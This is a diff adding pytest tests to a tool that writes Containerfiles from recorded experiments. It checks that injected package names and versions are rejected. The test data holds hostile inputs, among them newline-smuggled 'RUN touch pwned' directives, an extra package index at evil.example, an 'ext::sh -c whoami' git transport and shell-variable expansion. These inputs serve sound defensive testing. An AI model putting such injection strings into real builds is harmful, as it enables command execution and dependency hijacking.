@@ -19,11 +19,12 @@ import workbench as wb
 from workbench import asked
 from workbench.asking import ask
 from workbench.cli import main
-from workbench.errors import BadInput
-from workbench.exporters.containerfile import ARCHIVE, LOCK, SOURCES, lock_of
+from workbench.errors import BadInput, Untrusted
+from workbench.exporters.containerfile import ARCHIVE, LOCK, SOURCES, lock_of, write_container
 from workbench.snapshot.surroundings.environment import distributions
 from workbench.store import Store
 from workbench.store.owner.lease import read_engine
+from workbench.store.owner.trust import mark, trust
 
 COMMIT = "0123456789abcdef0123456789abcdef01234567"
 
@@ -97,6 +98,49 @@ def test_a_container_holds_all_that_the_replay_needs_and_its_command_replays(
     assert done.returncode == 0
     with pytest.raises(BadInput, match="would be overwritten"):
         trained.best.experiment.export(tmp_path / "box" / "Containerfile")
+
+
+@pytest.mark.parametrize(
+    ("name", "recorded"),
+    [
+        ("zz\nRUN touch pwned\n#", "1 @ file:///x"),
+        ("zz", "1\n--extra-index-url http://evil.example/simple"),
+        ("zz", "1; import os"),
+        ("torch", "1\nRUN x+cpu"),
+        ("-r", "1"),
+        ("zz", "1 @ https://files.example/a.whl --config-settings=x"),
+        ("zz", "1 @ https://files.example/${HOME}.whl"),
+        ("zz", "1 @ ext::sh -c whoami#0123456789abcdef"),
+        ("zz", "1 @ https://files.example/a.git#HEAD\nevil==1"),
+        ("zz", "1 @ https://files.example/a\u2028b.whl"),
+        ("zz", "1\n2 @ file:///x"),
+    ],
+)
+def test_what_no_package_has_becomes_a_comment_and_no_line(name: str, recorded: str) -> None:
+    lock = lock_of({name: recorded, "numpy": "2.4.6"})
+    assert lock.lines == ["numpy==2.4.6"]
+    assert not lock.indexes
+    assert len(lock.missing) == 1
+    assert len(lock.text.splitlines()) == 3
+    assert lock.text.splitlines()[-1].startswith("# not restored: ")
+
+
+def test_a_container_of_another_persons_experiment_is_refused_and_a_strange_python_too(
+    trained: wb.Experiment, tmp_path: Path
+) -> None:
+    store = trained.store
+    assert trained.spec.snapshot is not None
+    mark(store, trained.id)
+    with pytest.raises(Untrusted, match="workbench trust boxed@1"):
+        write_container(store, "boxed", tmp_path / "box" / "Containerfile")
+    trust(store, trained.id)
+    place = store.snapshot(trained.spec.snapshot) / "environment.json"
+    environment = json.loads(place.read_text())
+    environment["python"]["version"] = "3.11.7-slim\nRUN touch pwned #"
+    place.write_text(json.dumps(environment))
+    with pytest.raises(BadInput, match=r"3\.11\.7-slim\?RUN touch pwned.*expected a version"):
+        write_container(store, "boxed", tmp_path / "box" / "Containerfile")
+    assert not (tmp_path / "box").exists()
 
 
 def test_each_distribution_comes_from_where_it_came() -> None:
